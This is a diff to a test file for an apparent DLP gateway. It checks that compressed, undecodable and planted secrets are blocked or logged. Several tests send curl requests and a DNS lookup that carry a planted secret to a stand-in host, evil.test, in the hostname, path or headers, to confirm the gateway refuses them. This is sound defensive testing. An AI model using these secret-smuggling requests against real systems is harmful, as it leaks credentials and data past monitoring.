@@ -2,6 +2,7 @@ import { randomBytes } from 'node:crypto';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Rule } from '../../src/gateway/config.ts';
 import { SECURE_PORTS } from './gateway/secureOrigins.ts';
@@ -13,6 +14,10 @@ const KEY = `sk-test-${randomBytes(18).toString('base64url')}`;
 const PLACEHOLDER = `sk-test-${randomBytes(18).toString('base64url')}`;
 const FILED = `pa55-${randomBytes(12).toString('hex')}`;
 const PORT = SECURE_PORTS.both;
+/** Longer than lines of the log wait for others. */
+const A_WHILE_MS = 200;
+
+const BY_DETECTOR = { secret: 'block', canary: 'block', pattern: 'warn', undecodable: 'pass' } as const;
 
 let world: World;
 let gateway: TestGateway;
@@ -26,6 +31,7 @@ beforeAll(async () => {
     { ...rule, id: 'without', host: 'other.test' },
     { ...rule, id: 'warns', host: 'x.wild.test', dlp: 'warn' },
     { ...rule, id: 'wild', host: '*.wild.test' },
+    { ...rule, id: 'by detector', host: 'y.wild.test', dlp: BY_DETECTOR },
     { id: 'plain', host: 'other.test', port: 80, scheme: 'http', dlp: 'block' },
   ];
   gateway = await world.startGateway([], {
@@ -173,6 +179,40 @@ test('what looks like a secret to a rule, a pinned one or the user’s own, does
   }
 });
 
+describe('where a rule says it by what is found', () => {
+  const encoded = ['--header', 'Content-Encoding: gzip'];
+
+  test('what only looks like a secret leaves, and is in the log', async () => {
+    const { status, requests } = await curl('--http2', '--data', 'ACME-12345678', to('y.wild.test'));
+    expect([status, requests.length]).toEqual([200, 1]);
+    const logged = gateway.decisions.find(({ rule }) => rule === 'by detector');
+    expect(logged?.findings).toMatchObject([{ detector: 'pattern', id: 'acme', where: 'body' }]);
+  });
+
+  test.each(['--http1.1', '--http2'])('what nobody can look into leaves as it came: %s', async (version) => {
+    const garbage = ['--data', 'no gzip at all'];
+    const refused = await curl(version, ...encoded, ...garbage, to('other.test'));
+    expect([refused.status, refused.requests]).toEqual([403, []]);
+    const passed = await curl(version, ...encoded, ...garbage, to('y.wild.test'));
+    expect([passed.status, passed.requests]).toMatchObject([200, [{ bytes: 14 }]]);
+    const logged = gateway.decisions.filter(({ rule }) => rule === 'by detector');
+    expect(logged.at(-1)?.findings).toMatchObject([
+      { detector: 'undecodable', id: 'broken', encoding: 'gzip' },
+    ]);
+  });
+
+  test('what is known to be secret does not, plain or compressed', async () => {
+    const plain = await curl('--http2', '--data', FILED, to('y.wild.test'));
+    const zipped = join(world.folder, 'zipped-too');
+    writeFileSync(zipped, gzipSync(`password: ${FILED}`));
+    const hidden = await curl('--http2', ...encoded, '--data-binary', `@${zipped}`, to('y.wild.test'));
+    expect([plain, hidden].map(({ status, requests }) => [status, requests])).toEqual([
+      [403, []],
+      [403, []],
+    ]);
+  });
+});
+
 test('long bodies without secrets arrive whole (control)', async () => {
   const path = join(world.folder, 'clean');
   writeFileSync(path, randomBytes(3_000_000).toString('hex'));
@@ -183,9 +223,40 @@ test('long bodies without secrets arrive whole (control)', async () => {
   }
 });
 
+describe('a refusal for something else', () => {
+  const carriers: Record<string, readonly string[]> = {
+    host: [`http://${FILED}.evil.test/`],
+    path: [`http://evil.test/a/${FILED}`],
+    reason: ['--header', `Host: ${FILED}.evil.test`, to('other.test')],
+    'header name': ['--header', `X-${FILED}: a`, to('other.test')],
+  };
+
+  /** Lines of refusals wait a moment for others. */
+  const placesFound = async (from: number): Promise<readonly string[]> => {
+    const since = (): typeof gateway.decisions => gateway.decisions.slice(from);
+    await expect.poll(() => since().length).toBeGreaterThan(0);
+    return since().flatMap(({ findings = [] }) => findings.map(({ where }) => where));
+  };
+
+  test.each(Object.entries(carriers))('names what it found in the %s', async (where, args) => {
+    await sleep(A_WHILE_MS);
+    const from = gateway.decisions.length;
+    const { status, requests } = await curl('--http1.1', ...args);
+    expect([Math.floor(status / 100), requests]).toEqual([4, []]);
+    expect(await placesFound(from)).toContain(where);
+  });
+
+  test('names what a name that is asked for holds', async () => {
+    await sleep(A_WHILE_MS);
+    const from = gateway.decisions.length;
+    expect(await resolved(`${FILED}.evil.test`)).toBe('ENOTFOUND');
+    expect(await placesFound(from)).toContain('host');
+  });
+});
+
 test('the log holds neither the key nor what is in the file', () => {
-  const text = JSON.stringify(gateway.log);
-  expect(text).not.toContain(KEY);
+  const text = JSON.stringify(gateway.log).toLowerCase();
+  expect(text).not.toContain(KEY.toLowerCase());
   expect(text).not.toContain(FILED);
   expect(text).toContain('gateway.dlp');
 });
